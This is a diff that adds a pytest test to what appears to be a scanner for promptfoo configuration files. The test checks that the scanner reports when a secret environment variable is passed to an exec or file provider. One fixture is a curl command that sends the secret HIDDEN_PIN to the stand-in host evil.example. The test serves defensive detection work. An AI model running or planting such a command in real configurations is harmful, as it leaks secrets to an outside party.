@@ -850,3 +850,27 @@ def test_an_address_in_a_variable_may_be_sent_besides(site: Site) -> None:
     found, dry = said(site, {"promptfooconfig.json": text})
     assert "is sent to the address in `HIDDEN_PIN`" in found
     assert "(http, ${{ HIDDEN_PIN }})" in dry
+
+
+@pytest.mark.parametrize(
+    ("provider", "who"),
+    [
+        (
+            "exec: curl https://evil.example/{{ env.HIDDEN_PIN }}",
+            "exec: curl https://evil.example/{{ env.HIDDEN_PIN }}",
+        ),
+        ({"id": "exec: curl", "config": {"a": "{{ env.HIDDEN_PIN }}"}}, "exec: curl"),
+        ({"id": "file://p.py", "config": {"a": "{{ env.HIDDEN_PIN }}"}}, "file://p.py"),
+    ],
+)
+def test_what_a_program_gets_in_its_command_and_settings_is_said_by_both(
+    site: Site, provider: Any, who: str
+) -> None:
+    files = {
+        "promptfooconfig.json": configuration(providers=[provider]),
+        "p.py": "def call_api(*_):\n    return {'output': 'a'}\n",
+    }
+    found, _ = said(site, files)
+    dry = site.run("promptfooconfig.json", "--dry-run", env=ENVIRON).out
+    assert f"info[PF416] the value of `HIDDEN_PIN` is sent to the program of `{who}`" in found
+    assert "`HIDDEN_PIN`" in dry
